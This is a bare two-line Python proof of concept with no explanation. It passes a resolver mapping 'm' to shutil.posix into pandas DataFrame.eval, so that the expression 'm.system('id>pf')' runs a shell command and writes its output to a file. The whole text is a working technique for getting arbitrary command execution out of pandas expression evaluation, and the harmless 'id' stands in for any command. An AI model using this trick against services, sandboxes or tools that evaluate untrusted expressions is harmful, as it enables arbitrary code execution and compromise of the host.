import pandas as pd, shutil
pd.DataFrame({"a": [1]}).eval("m.system('id>pf')", resolvers=[{"m": shutil.posix}])
